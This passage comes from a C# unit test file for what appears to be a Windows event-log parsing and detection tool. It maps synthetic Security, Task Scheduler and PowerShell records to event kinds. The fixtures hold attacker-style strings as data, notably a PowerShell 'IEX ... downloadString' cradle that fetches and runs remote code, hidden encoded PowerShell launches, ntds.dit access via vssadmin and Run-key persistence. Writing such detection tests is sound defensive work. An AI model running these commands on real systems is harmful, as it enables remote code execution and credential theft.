                    EventKind.AccountChange, ("TargetName", @"OFFSEC\honey-pot1"), ("User", @"OFFSEC\admmig"));
            }

            Add("Security 4781 account renamed", Record(Security, 4781, Subject(Field("OldTargetUserName", "old"), Field("NewTargetUserName", "new"), Field("TargetDomainName", "OFFSEC"))),
                EventKind.AccountChange, ("TargetName", @"OFFSEC\new"), ("Details", "old"));
            foreach (int id in new[] { 4728, 4729, 4732, 4733, 4756, 4757 })
            {
                Add($"Security {id} group membership", Record(Security, id, Subject(
                        Field("MemberName", "CN=honey-pot1,OU=Test-OU,DC=offsec,DC=lan"), Field("MemberSid", "S-1-5-21-1-2-3-2001"),
                        Field("TargetUserName", "Domain Admins"), Field("TargetDomainName", "OFFSEC"), Field("TargetSid", "S-1-5-21-1-2-3-512"))),
                    EventKind.GroupMembershipChange, ("TargetName", @"OFFSEC\Domain Admins"), ("Details", "CN=honey-pot1,OU=Test-OU,DC=offsec,DC=lan"), ("User", @"OFFSEC\admmig"));
            }

            Add("Security 4732 member sid when name is dash", Record(Security, 4732, Subject(Field("MemberName", "-"), Field("MemberSid", "S-1-5-21-1-2-3-2001"), Field("TargetUserName", "Administrators"), Field("TargetDomainName", "Builtin"))),
                EventKind.GroupMembershipChange, ("TargetName", @"Builtin\Administrators"), ("Details", "S-1-5-21-1-2-3-2001"));
            foreach (int id in new[] { 5140, 5142, 5143, 5144 })
            {
                Add($"Security {id} share", Record(Security, id, Subject(Field("ObjectType", "File"), Field("IpAddress", "10.23.123.11"), Field("IpPort", "41747"),
                        Field("ShareName", @"\\*\C$"), Field("ShareLocalPath", @"\??\C:\"), Field("AccessMask", "0x1"))),
                    EventKind.ShareAccess, ("TargetName", @"\\*\C$"), ("TargetPath", @"\??\C:\"), ("DestinationIp", "10.23.123.11"), ("DestinationPort", 41747), ("Details", "0x1"));
            }

            Add("Security 5145 share object", Record(Security, 5145, Subject(Field("ObjectType", "File"), Field("IpAddress", "10.23.123.11"), Field("IpPort", "41747"),
                    Field("ShareName", @"\\*\IPC$"), Field("ShareLocalPath", ""), Field("RelativeTargetName", "svcctl"), Field("AccessMask", "0x12019f"))),
                EventKind.ShareAccess, ("TargetName", @"\\*\IPC$"), ("TargetPath", "svcctl"), ("User", @"OFFSEC\admmig"), ("Details", "0x12019f"));
            foreach (int id in new[] { 4768, 4769, 4770 })
            {
                Add($"Security {id} kerberos", Record(Security, id, Field("TargetUserName", "admmig@OFFSEC.LAN"), Field("TargetDomainName", "OFFSEC.LAN"), Field("ServiceName", "krbtgt"),
                        Field("TicketOptions", "0x40810000"), Field("TicketEncryptionType", "0x17"), Field("IpAddress", "::ffff:10.23.23.9"), Field("IpPort", "50270")),
                    EventKind.KerberosTicket, ("User", "admmig@OFFSEC.LAN"), ("TargetName", "krbtgt"), ("Details", "0x17"), ("DestinationIp", "10.23.23.9"), ("DestinationPort", 50270));
            }

            Add("Security 4771 preauth failed", Record(Security, 4771, Field("TargetUserName", "admmig"), Field("ServiceName", "krbtgt/OFFSEC"), Field("Status", "0x18"), Field("IpAddress", "::1")),
                EventKind.KerberosTicket, ("User", "admmig"), ("TargetName", "krbtgt/OFFSEC"), ("Details", "0x18"), ("DestinationIp", "::1"));
            foreach (int id in new[] { 4656, 4661, 4663 })
            {
                Add($"Security {id} object access", Record(Security, id, Subject(Field("ObjectServer", "Security"), Field("ObjectType", "File"), Field("ObjectName", @"C:\Windows\NTDS\ntds.dit"),
                        Field("AccessMask", "0x1"), Field("ProcessId", "0x2a4"), Field("ProcessName", @"C:\Windows\System32\vssadmin.exe"))),
                    EventKind.ObjectAccess, ("TargetPath", @"C:\Windows\NTDS\ntds.dit"), ("TargetName", "File"), ("Details", "0x1"), ("ProcessId", 0x2a4),
                    ("Image", @"C:\Windows\System32\vssadmin.exe"), ("User", @"OFFSEC\admmig"));
            }

            Add("Security 4658 handle closed", Record(Security, 4658, Subject(Field("HandleId", "0x1a0"), Field("ProcessId", "0x2a4"), Field("ProcessName", @"C:\t\a.exe"))),
                EventKind.ObjectAccess, ("ProcessId", 0x2a4), ("Image", @"C:\t\a.exe"), ("TargetPath", null));
            Add("Security 4662 directory operation", Record(Security, 4662, Subject(Field("ObjectServer", "DS"), Field("ObjectType", "%{19195a5b-6da0-11d0-afd3-00c04fd930c9}"),
                    Field("ObjectName", "%{665d6fdb-b06f-4d36-9da5-9b8dbaafeb2a}"), Field("AccessMask", "0x100"), Field("Properties", "%%7688 {1131f6aa-9c07-11d1-f79f-00c04fc2dcd2}"))),
                EventKind.ObjectAccess, ("TargetPath", "%{665d6fdb-b06f-4d36-9da5-9b8dbaafeb2a}"), ("TargetName", "%{19195a5b-6da0-11d0-afd3-00c04fd930c9}"),
                ("Details", "%%7688 {1131f6aa-9c07-11d1-f79f-00c04fc2dcd2}"));
            Add("Security 4670 permissions changed", Record(Security, 4670, Subject(Field("ObjectType", "Key"), Field("ObjectName", @"\REGISTRY\MACHINE\SYSTEM"), Field("NewSd", "D:(A;;KA;;;WD)"))),
                EventKind.ObjectAccess, ("TargetPath", @"\REGISTRY\MACHINE\SYSTEM"), ("TargetName", "Key"), ("Details", "D:(A;;KA;;;WD)"));
            Add("Security 5136 directory object modified", Record(Security, 5136, Subject(Field("ObjectDN", "CN=AdminSDHolder,CN=System,DC=offsec,DC=lan"),
                    Field("ObjectClass", "container"), Field("AttributeLDAPDisplayName", "nTSecurityDescriptor"), Field("AttributeValue", "O:DAG:DAD:"), Field("OperationType", "%%14674"))),
                EventKind.ObjectAccess, ("TargetPath", "CN=AdminSDHolder,CN=System,DC=offsec,DC=lan"), ("TargetName", "nTSecurityDescriptor"), ("Details", "O:DAG:DAD:"));
            Add("Security 5137 directory object created", Record(Security, 5137, Subject(Field("ObjectDN", "CN=evil,CN=Computers,DC=offsec,DC=lan"), Field("ObjectClass", "computer"))),
                EventKind.ObjectAccess, ("TargetPath", "CN=evil,CN=Computers,DC=offsec,DC=lan"), ("TargetName", "computer"));
            Add("Security 1102 log cleared", Record(Security, 1102, Subject()),
                EventKind.LogCleared, ("User", @"OFFSEC\admmig"), ("TargetName", "Security"));
            Add("Security 1102 log cleared message form", Record(Security, 1102,
                    Field("Message", "The audit log was cleared.\r\nSubject:\r\n\tSecurity ID:\tS-1-5-21-1-2-3-500\r\n\tAccount Name:\twardog\r\n\tDomain Name:\tWORKSTATION5\r\n\tLogon ID:\t0xC61D9")),
                EventKind.LogCleared, ("User", @"WORKSTATION5\wardog"));
            Add("Security 4657 registry value set", Record(Security, 4657, Subject(Field("ObjectName", @"\REGISTRY\MACHINE\SOFTWARE\Run"), Field("ObjectValueName", "evil"),
                    Field("OperationType", "%%1905"), Field("NewValue", @"C:\evil.exe"), Field("ProcessId", "0x1ef0"), Field("ProcessName", @"C:\Windows\regedit.exe"))),
                EventKind.RegistrySet, ("TargetPath", @"\REGISTRY\MACHINE\SOFTWARE\Run\evil"), ("Details", @"C:\evil.exe"), ("ProcessId", 0x1ef0), ("Image", @"C:\Windows\regedit.exe"));
            Add("Security 4657 registry value deleted", Record(Security, 4657, Subject(Field("ObjectName", @"\REGISTRY\MACHINE\SOFTWARE\Run"), Field("ObjectValueName", "evil"),
                    Field("OperationType", "%%1906"), Field("OldValue", "x"), Field("NewValue", "-"))),
                EventKind.RegistryDelete, ("TargetPath", @"\REGISTRY\MACHINE\SOFTWARE\Run\evil"), ("Details", null));

            // System and Task Scheduler
            Add("System 7045 service installed", Record(SystemLog, 7045, Field("ServiceName", "WCESERVICE"), Field("ImagePath", @"D:\Service\test.exe"),
                    Field("ServiceType", "user mode service"), Field("StartType", "demand start"), Field("AccountName", "LocalSystem")),
                EventKind.ServiceInstall, ("TargetName", "WCESERVICE"), ("TargetPath", @"D:\Service\test.exe"), ("Details", "LocalSystem"));
            Add("System 104 log cleared", Record(SystemLog, 104, Field("SubjectUserName", "admmig"), Field("SubjectDomainName", "OFFSEC"), Field("UserData_Channel", "System"), Field("BackupPath", "")),
                EventKind.LogCleared, ("User", @"OFFSEC\admmig"), ("TargetName", "System"), ("TargetPath", null));
            Add("System 7036 other", Record(SystemLog, 7036, Field("param1", "Windows Update"), Field("param2", "running")), EventKind.Other);
            Add("TaskScheduler 106 registered", Record(TaskScheduler, 106, Field("TaskName", @"\Evil"), Field("UserContext", @"OFFSEC\admmig")),
                EventKind.ScheduledTask, ("TargetName", @"\Evil"), ("User", @"OFFSEC\admmig"));
            Add("TaskScheduler 140 updated", Record(TaskScheduler, 140, Field("TaskName", @"\Evil"), Field("UserName", @"OFFSEC\admmig")),
                EventKind.ScheduledTask, ("TargetName", @"\Evil"), ("User", @"OFFSEC\admmig"));
            Add("TaskScheduler 141 deleted", Record(TaskScheduler, 141, Field("TaskName", @"\Evil"), Field("UserName", @"OFFSEC\admmig")),
                EventKind.ScheduledTask, ("TargetName", @"\Evil"));

            // PowerShell/Operational
            Add("PowerShell 4104 script block", Record(PowerShellOperational, 4104, Field("MessageNumber", "1"), Field("MessageTotal", "1"),
                    Field("ScriptBlockText", "IEX(New-Object Net.WebClient).downloadString('http://x/a.png')"), Field("ScriptBlockId", "965150b4-b107-4cce-9d30-1d3c55a8a085"), Field("Path", @"C:\t\a.ps1")),
                EventKind.ScriptBlock, ("Details", "IEX(New-Object Net.WebClient).downloadString('http://x/a.png')"), ("TargetName", "965150b4-b107-4cce-9d30-1d3c55a8a085"), ("TargetPath", @"C:\t\a.ps1"));
            Add("PowerShell 4104 empty script block", Record(PowerShellOperational, 4104, Field("ScriptBlockText", ""), Field("ScriptBlockId", "0783d7d2-2c3f-405e-b294-070c778241d6"), Field("Path", "")),
                EventKind.ScriptBlock, ("Details", null), ("TargetName", "0783d7d2-2c3f-405e-b294-070c778241d6"), ("TargetPath", null));
            Add("PowerShell 4104 message form", Record(PowerShellOperational, 4104,
                    Field("Message", "Creating Scriptblock text (1 of 1):\r\nGet-Process lsass\n\r\n\r\nScriptBlock ID: 9ddc422e-6c02-4d0f-8dee-d0c909a12d0c\r\nPath: C:\\m\\x.psm1")),
                EventKind.ScriptBlock, ("Details", "Get-Process lsass"), ("TargetName", "9ddc422e-6c02-4d0f-8dee-d0c909a12d0c"), ("TargetPath", @"C:\m\x.psm1"));
            const string ContextInfo =
                "        Severity = Informational\r\n        Host Name = ConsoleHost\r\n        Host Version = 5.1.18362.752\r\n" +
                "        Host Application = C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -noP -sta -w 1 -enc SQBGAA==\r\n" +
                "        Engine Version = 5.1.18362.752\r\n        Pipeline ID = 13\r\n        Command Name = Invoke-Expression\r\n        Command Type = Cmdlet\r\n" +
                "        Script Name = C:\\t\\run.ps1\r\n        Command Path = \r\n        Sequence Number = 24\r\n        User = THESHIRE\\pgustavo\r\n" +
                "        Connected User = \r\n        Shell ID = Microsoft.PowerShell\r\n";
            const string Payload = "CommandInvocation(Invoke-Expression): \"Invoke-Expression\"\r\nParameterBinding(Invoke-Expression): name=\"Command\"; value=\"whoami\"";
            Add("PowerShell 4103 module logging", Record(PowerShellOperational, 4103, Field("ContextInfo", ContextInfo), Field("UserData", ""), Field("Payload", Payload + "\r\n")),
                EventKind.PowerShellPipeline, ("CommandLine", @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -noP -sta -w 1 -enc SQBGAA=="),
                ("Details", Payload + "\r\n"), ("User", @"THESHIRE\pgustavo"), ("TargetName", "Invoke-Expression"), ("TargetPath", @"C:\t\run.ps1"));
            Add("PowerShell 4103 message form", Record(PowerShellOperational, 4103, Field("Message", Payload + "\r\n\r\n\r\nContext:\r\n" + ContextInfo + "\r\n\r\nUser Data:\r\n\r\n")),
                EventKind.PowerShellPipeline, ("CommandLine", @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -noP -sta -w 1 -enc SQBGAA=="),
                ("Details", Payload), ("User", @"THESHIRE\pgustavo"), ("TargetName", "Invoke-Expression"));
            Add("PowerShell 4103 without data", Record(PowerShellOperational, 4103), EventKind.PowerShellPipeline, ("CommandLine", null), ("Details", null));
            Add("PowerShell 40961 console starting", Record(PowerShellOperational, 40961, Field("Message", "PowerShell console is starting up")), EventKind.PowerShellEngine);
            Add("PowerShell 40962 console ready", Record(PowerShellOperational, 40962), EventKind.PowerShellEngine);
            Add("PowerShell 4105 other", Record(PowerShellOperational, 4105, Field("ScriptBlockId", "x"), Field("RunspaceId", "y")), EventKind.Other);

            // Windows PowerShell (classic)
            const string HostLine = "powershell.exe -exec bypass -noni -nop -w 1 -enc SQBmACgA";
            string EngineContext(string state, string previous) =>
                $"\tNewEngineState={state}\r\n\tPreviousEngineState={previous}\r\n\r\n\tSequenceNumber=13\r\n\r\n\tHostName=ConsoleHost\r\n\tHostVersion=5.1.19041.906\r\n" +
                $"\tHostApplication={HostLine}\r\n\tEngineVersion=5.1.19041.906\r\n\tRunspaceId=0b1c\r\n\tPipelineId=\r\n\tCommandName=\r\n\tCommandType=\r\n\tScriptName=\r\n\tCommandPath=\r\n\tCommandLine=";
            Add("Classic 400 data form", Record(ClassicPowerShell, 400, Field("Data_1", "Available"), Field("Data_2", "None"), Field("Data_3", EngineContext("Available", "None"))),
                EventKind.PowerShellEngine, ("CommandLine", HostLine), ("Details", "Available"));
            Add("Classic 400 message form", Record(ClassicPowerShell, 400, Field("Message", "Engine state is changed from None to Available. \r\n\r\nDetails: \r\n" + EngineContext("Available", "None"))),
                EventKind.PowerShellEngine, ("CommandLine", HostLine), ("Details", "Available"));
            Add("Classic 403 data form", Record(ClassicPowerShell, 403, Field("Data_1", "Stopped"), Field("Data_2", "Available"), Field("Data_3", EngineContext("Stopped", "Available"))),
                EventKind.PowerShellEngine, ("CommandLine", HostLine), ("Details", "Stopped"));
            string providerContext = $"\tProviderName=Registry\n\tNewProviderState=Started\n\n\tSequenceNumber=1\n\n\tHostName=ConsoleHost\n\tHostApplication={HostLine}\n\tEngineVersion=\n";
            Add("Classic 600 data form", Record(ClassicPowerShell, 600, Field("Data_1", "Registry"), Field("Data_2", "Started"), Field("Data_3", providerContext)),
                EventKind.PowerShellEngine, ("CommandLine", HostLine), ("TargetName", "Registry"), ("Details", "Started"));
            Add("Classic 600 message form", Record(ClassicPowerShell, 600, Field("Message", "Provider \"Registry\" is Started. \r\n\r\nDetails: \r\n" + providerContext)),
                EventKind.PowerShellEngine, ("CommandLine", HostLine), ("TargetName", "Registry"), ("Details", "Started"));
            string PipelineContext(string newLine) =>
                $"\tDetailSequence=1{newLine}\tDetailTotal=1{newLine}{newLine}\tSequenceNumber=51{newLine}{newLine}\tUserId=PANDALAB\\Administrator{newLine}" +
                $"\tHostName=ConsoleHost{newLine}\tHostApplication={HostLine}{newLine}\tEngineVersion=5.1{newLine}\tPipelineId=12{newLine}" +
                $"\tScriptName=C:\\t\\Collect.ps1{newLine}\tCommandLine=$FromDate = get-date{newLine}";
            const string PipelineDetail = "CommandInvocation(Get-Date): \"Get-Date\"";
            Add("Classic 800 data form", Record(ClassicPowerShell, 800, Field("Data_1", "$FromDate = get-date"), Field("Data_2", PipelineContext("\r\n")), Field("Data_3", PipelineDetail + "\r\n")),
                EventKind.PowerShellPipeline, ("CommandLine", HostLine), ("Details", PipelineDetail + "\r\n"), ("User", @"PANDALAB\Administrator"), ("TargetPath", @"C:\t\Collect.ps1"));
            Add("Classic 800 data form shifted and out of order", Record(ClassicPowerShell, 800, Field("Data_3", PipelineDetail), Field("Data_2", PipelineContext("\n"))),
                EventKind.PowerShellPipeline, ("CommandLine", HostLine), ("Details", PipelineDetail), ("User", @"PANDALAB\Administrator"));
            Add("Classic 800 data form split command", Record(ClassicPowerShell, 800, Field("Data_1", "write-host \"a"), Field("Data_2", "b\""),
                    Field("Data_3", PipelineContext("\r\n") + "write-host \"a"), Field("Data_4", "b\""), Field("Data_5", PipelineDetail)),
                EventKind.PowerShellPipeline, ("CommandLine", HostLine), ("Details", PipelineDetail));
            Add("Classic 800 message form", Record(ClassicPowerShell, 800, Field("Message",
                    "Pipeline execution details for command line: $FromDate = get-date. \r\n\r\nContext Information: \r\n" + PipelineContext("\r\n") + "\r\nDetails: \r\n" + PipelineDetail + "\r\n")),
                EventKind.PowerShellPipeline, ("CommandLine", HostLine), ("Details", PipelineDetail), ("User", @"PANDALAB\Administrator"), ("TargetPath", @"C:\t\Collect.ps1"));
            Add("Classic 800 without data", Record(ClassicPowerShell, 800), EventKind.PowerShellPipeline, ("CommandLine", null), ("Details", null));
            Add("Classic 500 other", Record(ClassicPowerShell, 500, Field("Data_1", "x")), EventKind.Other);

            return cases;
        }

        private static EventRecord Record(string channel, int eventId, params KeyValuePair<string, string>[] fields) => new EventRecord
        {
            EventId = eventId,
            Channel = channel,
            Provider = "Test-Provider",
            Computer = "host.offsec.lan",
            TimeCreated = s_created,
            RecordId = 1,
            Fields = fields,
            SourceFile = "test.jsonl",
            SourceLine = 1,
        };

        private static KeyValuePair<string, string> Field(string name, string value) => new KeyValuePair<string, string>(name, value);

        private sealed class MappingCase
        {
            public MappingCase(EventRecord record, EventKind kind, Dictionary<string, object?> expected)
            {
                Record = record;
                Kind = kind;
                Expected = expected;
            }

            public EventRecord Record { get; }

            public EventKind Kind { get; }

            public Dictionary<string, object?> Expected { get; }
        }
    }
}
